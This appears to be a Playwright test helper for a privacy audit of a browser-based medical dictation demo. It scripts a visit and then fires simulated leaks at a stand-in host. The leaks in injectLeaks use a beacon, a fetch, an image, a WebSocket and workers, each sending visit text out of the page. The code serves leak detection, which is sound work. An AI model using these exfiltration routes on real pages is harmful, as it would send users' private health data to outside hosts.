/**
 * The scripted visit of the demo for the privacy audit: the test models, a dictation through
 * Chromium's fake microphone, the note, a chat command and a question, a FHIR export, a
 * reload. Every step waits on the page's state, not on time.
 */
export const dictationWav = new URL('../../test/fixtures/audio/dictation.wav', import.meta.url).pathname;

/** Chromium's fake microphone, playing the synthesised dictation once. */
export const fakeMicrophone = (wav = dictationWav) => [
  '--use-fake-ui-for-media-stream',
  '--use-fake-device-for-media-stream',
  `--use-file-for-fake-audio-capture=${wav}%noloop`,
];

/** @param {{ page: import('playwright-core').Page, origin: string }} visit */
export async function demoVisit({ page, origin }) {
  // Each wait is on the page's state; the generous timeouts are for a loaded machine.
  page.setDefaultTimeout(120_000);
  let step = 'load';
  try {
    await steps(page, origin, (name) => (step = name));
  } catch (error) {
    throw new Error(`demo visit, step "${step}": ${error.message}`, { cause: error });
  }
}

async function steps(page, origin, at) {
  await page.goto(`${origin}/demo/playground.html`);
  await page.getByLabel(/Test models/).check();
  await page.waitForFunction(() => document.querySelector('select[name=llm]').value === 'test-llm');
  await page.getByLabel('Live partials from').selectOption('test-moonshine');
  await page.getByRole('button', { name: 'Load models' }).click();
  await page.locator('slm-provider').evaluate((provider) => provider.load());

  at('dictate');
  await page.locator('slm-transcriber').getByRole('button', { name: 'Record', exact: true }).click();
  // One finished sentence is enough for the audit: audio went through the worklet and the speech worker into the visit.
  await page.waitForFunction(() => document.querySelector('slm-provider').session.transcript.segments.some((s) => s.final), null, { timeout: 240_000 });
  await page.locator('slm-transcriber').getByRole('button', { name: 'Stop', exact: true }).click();
  at('note');
  await page.waitForFunction(() => document.querySelector('slm-note').note.sections.some((s) => s.items.length), null, { timeout: 240_000 });

  at('chat command');
  const chat = page.locator('slm-chat textarea');
  await chat.fill('Add to plan: chest x-ray');
  await chat.press('Enter');
  await page.waitForFunction(() =>
    document
      .querySelector('slm-note')
      .note.sections.find((s) => s.id === 'plan')
      .items.some((i) => i.text === 'chest x-ray'),
  );
  at('chat question');
  await chat.fill('What was said?');
  await chat.press('Enter');
  // The answer has begun (its first words are in) or ended: the chat path has run. Waiting for a
  // whole answer from the fixture model costs minutes on a loaded machine and adds no destination.
  await page.waitForFunction(
    () => {
      const last = document.querySelector('slm-chat').messages.at(-1);
      return document.querySelector('slm-chat').messages.length === 4 && (last.content.length > 0 || last.status !== 'streaming');
    },
    null,
    { timeout: 240_000 },
  );

  at('export');
  const fhir = await page.locator('slm-note').evaluate((note) => JSON.parse(note.exportAs('fhir')));
  if (fhir.resourceType !== 'Bundle') throw new Error(`the FHIR export is a ${fhir.resourceType}`);

  at('reload');
  // Reload: the stored visit comes back (read from IndexedDB, nothing fetched for it).
  await page.waitForFunction(() => document.querySelector('slm-visits').shadowRoot.querySelectorAll('[part~="visit"]').length >= 1, null, { timeout: 120_000 });
  // A write still queued (an answer was streaming) asks before the page goes: leave anyway, as a person would.
  page.on('dialog', (dialog) => void dialog.accept());
  await page.reload();
  await page.locator('slm-visits').evaluate((visits) => visits.ready);
  await page.waitForFunction(() => document.querySelector('slm-provider').session.transcript.segments.length > 0, null, { timeout: 120_000 });
}

/**
 * Requests to the stand-in by every route a leak could take: a beacon, a fetch, an image, a
 * WebSocket, a fetch from a worker (one from a blob, one from `leak.worker.js` on the page's origin) and one from
 * a service worker (`leak.sw.js`). The audit must see each of them arrive, or be blocked.
 * @param {{ page: import('playwright-core').Page, standInUrl: string }} visit
 */
export async function injectLeaks({ page, standInUrl }) {
  await page.evaluate((base) => {
    navigator.sendBeacon(`${base}/beacon`, 'visit text');
    void fetch(`${base}/fetch`, {
      method: 'POST',
      body: 'visit text',
      mode: 'no-cors',
    }).catch(() => undefined);
    new Image().src = `${base}/image`;
    try {
      new WebSocket(`${base.replace(/^http/, 'ws')}/socket`);
    } catch {
      // Refused at once by a policy: the violation is what the audit records.
    }
    // A worker from a URL of the page's origin: its own response's policy applies, not the page's.
    new Worker('/tools/audit/leak.worker.js').postMessage(`${base}/url-worker`);
    void navigator.serviceWorker
      ?.register(`/tools/audit/leak.sw.js?to=${encodeURIComponent(`${base}/service-worker`)}`, { scope: '/tools/audit/' })
      .catch(() => undefined);
    try {
      const source = URL.createObjectURL(new Blob([`fetch('${base}/worker', { mode: 'no-cors' }).catch(() => {})`], { type: 'text/javascript' }));
      new Worker(source);
    } catch {
      // As above.
    }
  }, standInUrl);
}
